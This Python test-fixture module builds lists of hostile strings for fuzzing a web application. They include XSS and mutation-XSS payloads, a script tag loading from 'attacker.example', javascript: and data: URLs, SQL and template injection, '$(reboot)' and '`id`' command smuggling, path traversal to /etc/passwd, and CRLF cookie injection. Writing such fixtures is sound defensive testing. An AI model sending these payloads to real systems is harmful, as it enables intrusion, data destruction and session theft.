"""Hostile input: strings that attackers, broken clients and unlucky readers send.

`HOSTILE_STRINGS` is built from a few families, each aimed at one way a site goes wrong:
markup that runs script (every casing of <script>, event handlers, javascript: and
data: URLs, SVG and MathML, mutation-XSS shapes that parse differently the second
time), markup that is broken or nested to confuse a sanitiser, entities, control and
invisible characters (NUL, right-to-left overrides, zero-width joiners), strings that
break templates, format strings and SQL, and very long strings.
`INVALID_UTF8_QUERIES` are raw query strings that do not decode as UTF-8.
"""

import itertools


def _every_casing(word: str) -> list[str]:
    return [
        "".join(letters)
        for letters in itertools.product(*((ch.lower(), ch.upper()) for ch in word))
    ]


# <script> in each of its 64 casings, in shapes a filter might miss.
_SCRIPT_SHAPES = (
    "<{t}>alert(1)</{t}>",
    "<{t} src=//attacker.example/x.js></{t}>",
    "<{t}/x>alert(1)</{t}>",
    "</{t}><{t}>alert(document.cookie)</{t}>",
)
SCRIPT_TAGS = [
    _SCRIPT_SHAPES[n % len(_SCRIPT_SHAPES)].format(t=casing)
    for n, casing in enumerate(_every_casing("script"))
]

_HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart",
    "onpointerenter", "ontoggle", "onbegin", "OnErRoR",
)  # fmt: skip
_HANDLER_HOSTS = (
    "<img src=x {h}=alert(1)>",
    "<svg {h}=alert(1)>",
    '<details open {h}="alert(1)">',
    "<input autofocus {h}=alert(1)>",
    "<a href=\"#\" {h}='alert(1)'>link</a>",
)
EVENT_HANDLERS = [host.format(h=handler) for handler in _HANDLERS for host in _HANDLER_HOSTS]

_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
)
_URL_HOSTS = (
    '<a href="{u}">read more</a>',
    "<iframe src={u}></iframe>",
    '<form action="{u}"><button>go</button></form>',
    '<object data="{u}"></object>',
)
DANGEROUS_URLS = [
    *(host.format(u=scheme) for scheme in _SCHEMES for host in _URL_HOSTS),
    *_SCHEMES,  # bare, as a search or a display name
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<embed src="data:text/html,<script>alert(1)</script>">',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">'
    "</iframe></foreignObject></svg>",
    "<svg><style>@import 'javascript:alert(1)';</style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">click</math>',
    "<math><maction actiontype=statusline#javascript:alert(1)>x</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
    '<img onerror=alert(1) src=1>">',
]

BROKEN_MARKUP = [
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>-->alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<b><i><u>never closed",
    "</p></div></main></body></html>",
    "<p>" * 500,
    "<table><tr><td><table><tr><td>" * 40,
    "<a href='https://example.com/\"onmouseover=\"alert(1)'>x</a>",
    "<img src=`x`onerror=alert(1)>",
    "<x onclick=alert(1)>unknown element</x>",
    "<template><script>alert(1)</script></template>",
    "<select><option><iframe src=javascript:alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<?php echo 1; ?>",
    "<% response.write(1) %>",
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;",
    "&nbsp;&zwj;&shy;&lrm;&rlm;",
    "&",
    "&#0;",
    "&#xD800;",
    "&#x110000;",
    "&unknownentity;",
    "AT&T &copy 2025",
]

CONTROL_AND_INVISIBLE = [
    "\x00",
    "before\x00after",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "java\x00script:alert(1)",
    "\u202eexe.gpj",
    "\u202dleft-to-right override\u202c",
    "\u2066\u2067\u2068isolates\u2069",
    "\u200bzero\u200dwidth\u200c",
    "\ufeffbyte order mark",
    "\u0430dmin",  # Cyrillic а: looks like "admin"
    "Z\u0334\u0321\u031b\u0316\u0359\u034d\u0326\u0349\u032b\u0318\u0366\u0314\u0346\u033f",
    "\r\n\r\nSet-Cookie: session=stolen",
    "line\rbreak\nand\r\nmore",
    "\x1b[31mterminal colour\x1b[0m",
    "\x7f\x08\x0b\x0c",
    "\t\t\t",
    "\ufffd replacement character",
    "🙂👍🏽👨‍👩‍👧‍👦",
    " ",
    "   leading and trailing   ",
]

FORMATS_AND_QUERIES = [
    "' OR 1=1 --",
    "'; DROP TABLE articles_article; --",
    '" OR ""="',
    "%",
    "_",
    "\\",
    "%s%s%s%n",
    "{0.__class__.__mro__}",
    "%(password)s",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "$(reboot)",
    "`id`",
    "*)(uid=*))(|(uid=*",
    "null",
    "undefined",
    "NaN",
    "-1",
    "9" * 400,
]

LONG_STRINGS = [
    "A" * 100_000,
    "é" * 100_000,
    "🙂" * 25_000,
    "<b>" * 33_334,
    "a " * 50_000,
]

HOSTILE_STRINGS = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *DANGEROUS_URLS,
    *SVG_AND_MATHML,
    *BROKEN_MARKUP,
    *ENTITIES,
    *CONTROL_AND_INVISIBLE,
    *FORMATS_AND_QUERIES,
    *LONG_STRINGS,
]

# Query strings as a client may send them: percent-encoded bytes that are not UTF-8.
INVALID_UTF8_QUERIES = [
    "q=%FF",
    "q=%FE%FF",
    "q=%C0%AF",  # overlong "/"
    "q=%E0%80%AF",
    "q=%ED%A0%80",  # a lone surrogate
    "q=%F4%90%80%80",  # beyond U+10FFFF
    "q=%C3",  # cut in the middle of a character
    "q=abc%80def",
    "q=%3Cscript%3E%FFalert(1)%3C/script%3E",
    "q=%00",
    "q=%E2%80%AE%FF",
    "q=x&q=%FF&page=%FF",
    "page=%FF%FE",
    "q=%",
    "q=%G0",
    "%FF=%FF",
]


def label(text: str) -> str:
    """A short, printable name for a test id."""
    shown = text[:40].encode("unicode_escape").decode("ascii")
    return f"{shown}...({len(text)})" if len(text) > 40 else shown
